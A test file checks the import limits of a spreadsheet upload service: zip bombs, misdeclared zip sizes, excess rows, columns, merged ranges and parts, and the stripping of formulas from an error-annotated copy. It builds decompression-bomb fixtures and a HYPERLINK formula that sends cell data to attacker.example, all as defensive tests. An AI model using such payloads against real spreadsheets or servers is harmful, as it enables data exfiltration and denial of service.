/**
 * The import's limits, from the issue's statements (docs/security.md, "Import limits"), with the
 * figures written here as the docs state them rather than read from the code: a file within the
 * upload cap that would ask for more work than they allow — a zip bomb, one that lies about its
 * sizes, millions of rows, a cell far to the right, a merged or validated range of a million cells —
 * is refused before exceljs builds it, with a 413 that names the limit in Chinese first; a file at
 * each limit is read. An answer repeats only a short prefix of a header, and lists at most 1,000
 * errors. The faulty-cells copy of an empty zip is a workbook; its formulas are their results.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { faultyCellsCopy, readSheets } from '../../functions/adapters/spreadsheet';
import { MAX_UPLOAD_BYTES } from '../../functions/contract/schemas';
import { columnLetter, importCheckpointSheets, type SheetError } from '../../functions/domain/checkpoint-sheet';
import { ValidationError } from '../../functions/domain/errors';
import { ImportLimitError, overLimit, withErrorsListed, type ImportLimit } from '../../functions/domain/import-limits';
import { EMPTY_ZIP, SHEET_PART, sheetXml, workbookParts, zipOf, type PartContent } from './zip-files';

const MB = 1024 * 1024;
const HEADER = '卡点编号 checkpointId,社区编号 communityId,卡点名称 name,报告周期 schedule';

/** What reading the bytes throws, or undefined when they are read. */
const refusal = async (bytes: Uint8Array, format: 'csv' | 'xlsx'): Promise<unknown> => {
  try {
    await readSheets(bytes, format);
    return undefined;
  } catch (error) {
    return error;
  }
};

/** A refusal that names the limit: a 413, Chinese first, then English, and that nothing was written. */
const expectOver = (error: unknown, limit: ImportLimit, figure: string) => {
  expect(error).toBeInstanceOf(ImportLimitError);
  const refused = error as ImportLimitError;
  expect(refused.status).toBe(413);
  expect(refused.limit).toBe(limit);
  expect(refused.zh).toMatch(/[\u4e00-\u9fff]/);
  expect(refused.zh).toContain(figure);
  expect(refused.en).toContain(figure);
  expect(refused.en).not.toContain('undefined');
  expect(refused.message.startsWith(`${refused.zh}（未写入任何内容）`)).toBe(true);
  expect(refused.message).toContain('nothing was written');
};

const workbook = async (sheet: PartContent, declared: Record<string, number> = {}) => ({ ...(await workbookParts()), [SHEET_PART]: sheet, declared });
const xlsx = async (sheet: PartContent, declared: Record<string, number> = {}) => {
  const { declared: sizes, ...parts } = await workbook(sheet, declared);
  const bytes = await zipOf(parts, sizes);
  expect(bytes.byteLength).toBeLessThanOrEqual(MAX_UPLOAD_BYTES);
  return bytes;
};

/** A sheet whose one cell is `body` repeated `times` times, streamed: never whole in the test's memory. */
const oneCell = (body: string, times: number): PartContent => {
  const [head, tail] = sheetXml('<row r="1"><c r="A1" t="inlineStr"><is><t>@</t></is></c></row>').split('@') as [string, string];
  return { head, body, times, tail };
};

const cell = (row: number, column: number, text: string) => `<c r="${columnLetter(column)}${row}" t="inlineStr"><is><t>${text}</t></is></c>`;

describe('an xlsx within the upload cap that inflates past 32 MB', () => {
  it('is refused from its zip directory, one cell of 300 MB as a file of a few hundred KB', async () => {
    const bomb = await xlsx(oneCell('a'.repeat(1024), 300 * 1024));
    expect(bomb.byteLength).toBeLessThan(MB);
    expectOver(await refusal(bomb, 'xlsx'), 'unzippedBytes', '32 MB');
  });

  it('is refused when a part declares less than it holds, inflated no further than it declared', async () => {
    const liar = await xlsx(oneCell('a'.repeat(1024), 64 * 1024), { [SHEET_PART]: 1024 });
    const error = await refusal(liar, 'xlsx');
    expect(error).toBeInstanceOf(ValidationError);
    expect((error as ValidationError).issues[0]!.message).toContain(SHEET_PART);
  });

  it('is refused when its directory cannot be read (a zip64 one among them): nothing unchecked reaches exceljs', async () => {
    const bytes = await xlsx(sheetXml(`<row r="1">${cell(1, 0, 'x')}</row>`));
    const zip64 = Buffer.from(bytes);
    zip64.writeUInt16LE(0xffff, zip64.byteLength - 12);
    zip64.writeUInt32LE(0xffffffff, zip64.byteLength - 6);
    const unreadable = await refusal(zip64, 'xlsx');
    expect(unreadable).toBeInstanceOf(ValidationError);
    expect((unreadable as ValidationError).issues[0]!.message).toContain('directory');
  });

  it('is read at 32 MB and less: a cell of 1,000 characters among 30 MB of notes', async () => {
    const notes = { head: sheetXml(`<row r="1">${cell(1, 0, HEADER.split(',')[0]!)}${cell(1, 1, 'x'.repeat(1000))}</row>`).replace('</worksheet>', ''), body: '<!-- a note -->', times: 2 * MB, tail: '</worksheet>' };
    const sheets = await readSheets(await xlsx(notes), 'xlsx');
    expect(sheets[0]!.rows[0]![1]).toHaveLength(1000);
  });
});

describe('rows, columns and cells', () => {
  it('refuses five million rows in 1.5 MB from their count in the XML, before exceljs makes them', async () => {
    const [head, tail] = sheetXml('@').split('@') as [string, string];
    const rows = await xlsx({ head, body: '<row/>', times: 5_000_000, tail });
    expect(rows.byteLength).toBeLessThan(1.5 * MB);
    expectOver(await refusal(rows, 'xlsx'), 'rows', '5,000,000');
    const fewer = await xlsx({ head, body: '<row/>', times: 20_001, tail });
    expectOver(await refusal(fewer, 'xlsx'), 'rows', '20,001');
  });

  it('refuses a row numbered past 20,000, and reads row 20,000', async () => {
    expectOver(await refusal(await xlsx(sheetXml(`<row r="20001">${cell(20001, 0, 'x')}</row>`)), 'xlsx'), 'rows', '20,001');
    const sheets = await readSheets(await xlsx(sheetXml(`<row r="20000">${cell(20000, 0, 'x')}</row>`)), 'xlsx');
    expect(sheets[0]!.rows).toHaveLength(20_000);
  });

  it('refuses a cell in column 101 (CW), and reads column 100 (CV)', async () => {
    expectOver(await refusal(await xlsx(sheetXml(`<row r="1">${cell(1, 100, 'x')}</row>`)), 'xlsx'), 'columns', '101');
    const sheets = await readSheets(await xlsx(sheetXml(`<row r="1">${cell(1, 99, 'x')}</row>`)), 'xlsx');
    expect(sheets[0]!.rows[0]).toHaveLength(100);
  });

  it('names the sheet it is about in each language: 卡点表 in Chinese, the checkpoints sheet in English', () => {
    // The sheets are titled in Chinese only now (卡点, 班次, 联系人); the English refusal still names them.
    const zh = { checkpoints: '卡点', shifts: '班次', contacts: '联系人' } as const;
    for (const sheet of ['checkpoints', 'shifts', 'contacts'] as const) {
      for (const refused of [overLimit.rows(sheet, 20_001), overLimit.columns(sheet, 101), overLimit.cellChars(sheet, 2, 3, 1001)]) {
        expect(refused.zh).toContain(`${zh[sheet]}表`);
        expect(refused.en).toContain(`the ${sheet} sheet`);
      }
    }
  });

  it('refuses a cell of 1,001 characters, in xlsx and in CSV alike', async () => {
    expectOver(await refusal(await xlsx(sheetXml(`<row r="1">${cell(1, 1, 'x'.repeat(1001))}</row>`)), 'xlsx'), 'cellChars', '1,001');
    expectOver(await refusal(Buffer.from(`${HEADER}\r\nyuyue-1,yuyue,${'名'.repeat(1001)},PT2H\r\n`), 'csv'), 'cellChars', '1,001');
  });

  it('counts a merged or validated range cell by cell: a million cells in a few bytes are refused, 300,000 are read', async () => {
    const merged = (ref: string) => sheetXml(`<row r="1">${cell(1, 0, 'x')}</row>`, `<mergeCells count="1"><mergeCell ref="${ref}"/></mergeCells>`);
    const validated = (ref: string) =>
      sheetXml(`<row r="1">${cell(1, 0, 'x')}</row>`, `<dataValidations count="1"><dataValidation type="list" sqref="${ref}"><formula1>"是,否"</formula1></dataValidation></dataValidations>`);
    expectOver(await refusal(await xlsx(merged('A1:CV10000')), 'xlsx'), 'cells', '1,000,00');
    expectOver(await refusal(await xlsx(validated('A2:A1048576')), 'xlsx'), 'cells', '1,048,57');
    // 3 objects besides the range: the row, its cell, and the shared string the workbook's parts carry.
    expect(await refusal(await xlsx(validated('A2:CV3000 A3001:CS3001')), 'xlsx')).toBeUndefined();
    expectOver(await refusal(await xlsx(validated('A2:CV3000 A3001:CT3001')), 'xlsx'), 'cells', '300,001');
  });

  it('refuses more than 5,000 merged ranges (exceljs compares each with every other)', async () => {
    const ranges = (n: number) => Array.from({ length: n }, (_, i) => `<mergeCell ref="A${i * 2 + 1}:A${i * 2 + 2}"/>`).join('');
    expectOver(await refusal(await xlsx(sheetXml(`<row r="1">${cell(1, 0, 'x')}</row>`, `<mergeCells>${ranges(5001)}</mergeCells>`)), 'xlsx'), 'mergedRanges', '5,001');
    expect(await refusal(await xlsx(sheetXml(`<row r="1">${cell(1, 0, 'x')}</row>`, `<mergeCells>${ranges(5000)}</mergeCells>`)), 'xlsx')).toBeUndefined();
  });

  it('refuses a zip of more than 1,000 parts', async () => {
    const parts = await workbookParts();
    const extra = (n: number) => Object.fromEntries(Array.from({ length: n - Object.keys(parts).length }, (_, i) => [`docProps/extra${i}.xml`, '<x/>']));
    expectOver(await refusal(await zipOf({ ...parts, ...extra(1001) }), 'xlsx'), 'zipParts', '1,001');
    expect(await refusal(await zipOf({ ...parts, ...extra(1000) }), 'xlsx')).toBeUndefined();
  });

  it('refuses a CSV of more than 20,000 lines without parsing the rest', async () => {
    expectOver(await refusal(Buffer.from(`${HEADER}\r\n${'\r\n'.repeat(2_000_000)}`), 'csv'), 'rows', '20,001');
  });
});

describe('checkpoints in one file', () => {
  const csv = (count: number, blankEvery = 0) =>
    Buffer.from([HEADER, ...Array.from({ length: count }, (_, i) => `${blankEvery && i % blankEvery === 0 ? '\r\n' : ''}gate-${i},yuyue,门${i},PT2H`)].join('\r\n'));

  it('are at most 1,000: 1,001 are refused up front, the limit named and the file to be split', async () => {
    const error = await refusal(csv(1001), 'csv');
    expectOver(error, 'checkpoints', '1,001');
    expect((error as ImportLimitError).zh).toContain('1,000');
    expect((error as ImportLimitError).zh).toContain('拆');
    expect((error as ImportLimitError).en).toContain('split');
  });

  it('are read at 1,000, blank rows between them not counted', async () => {
    const sheets = await readSheets(csv(1000, 10), 'csv');
    expect(importCheckpointSheets(sheets).rows).toBe(1000);
  });
});

describe('an answer', () => {
  it('repeats a header of 1,000 characters by its first 40 and an ellipsis, in the error and its column', async () => {
    const header = `${HEADER},${'未知'.repeat(500)}`;
    const { errors } = importCheckpointSheets(await readSheets(Buffer.from(`${header}\r\nyuyue-1,yuyue,门,PT2H,x\r\n`), 'csv'));
    const unknown = errors.find((error) => error.message.startsWith('unknown column'))!;
    expect(unknown.column).toBe(`${'未知'.repeat(20)}…`);
    expect(unknown.message).toContain(`"${'未知'.repeat(20)}…"`);
    expect(JSON.stringify(errors).length).toBeLessThan(1000);
  });

  it('lists the first 1,000 errors and says how many more there are', () => {
    const errors: SheetError[] = Array.from({ length: 1500 }, (_, i) => ({ sheet: 'checkpoints', row: i + 2, column: 'name', message: 'required' }));
    const listed = withErrorsListed({ rows: 1500, errors });
    expect(listed.errors).toEqual(errors.slice(0, 1000));
    expect(listed.errorsNotListed).toBe(500);
    expect(withErrorsListed({ rows: 1, errors: errors.slice(0, 1000) })).not.toHaveProperty('errorsNotListed');
  });
});

describe('the faulty-cells copy', () => {
  const load = async (bytes: Buffer) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    return book;
  };

  it('of an empty zip is a workbook with a checkpoints sheet that says there is none', async () => {
    const errors = importCheckpointSheets(await readSheets(EMPTY_ZIP, 'xlsx')).errors;
    expect(errors.map((error) => error.message)).toEqual(['there is no checkpoints sheet']);
    const copy = await load(await faultyCellsCopy(EMPTY_ZIP, 'xlsx', errors));
    expect(copy.worksheets.map((sheet) => sheet.name)).toEqual(['卡点']);
    expect(copy.worksheets[0]!.getCell('A1').note).toBeDefined();
  });

  it('keeps no formula: each is its result as text, and text that looks like one is neutralised as an export writes it', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('卡点 checkpoints');
    sheet.addRow(HEADER.split(','));
    sheet.addRow(['yuyue-1', 'yuyue', '门', 'PT2H']);
    sheet.getCell('C2').value = { formula: 'HYPERLINK("http://attacker.example/?"&A2,"点击")', result: '点击' };
    sheet.getCell('D2').value = '=1+1';
    const bytes = Buffer.from(await book.xlsx.writeBuffer());
    const errors: SheetError[] = [{ sheet: 'checkpoints', row: 2, column: 'schedule', message: 'not a schedule' }];
    const copy = (await load(await faultyCellsCopy(bytes, 'xlsx', errors))).worksheets[0]!;
    expect(copy.getCell('C2').value).toBe('点击');
    expect(copy.getCell('D2').value).toBe("'=1+1");
    const formulas: string[] = [];
    copy.eachRow((row) => row.eachCell((c) => (c.formula ? formulas.push(c.address) : undefined)));
    expect(formulas).toEqual([]);
    // Read back, the copy gives what the upload gave.
    expect((await readSheets(await faultyCellsCopy(bytes, 'xlsx', errors), 'xlsx'))[0]!.rows[1]).toEqual(['yuyue-1', 'yuyue', '点击', '=1+1']);
  });
});
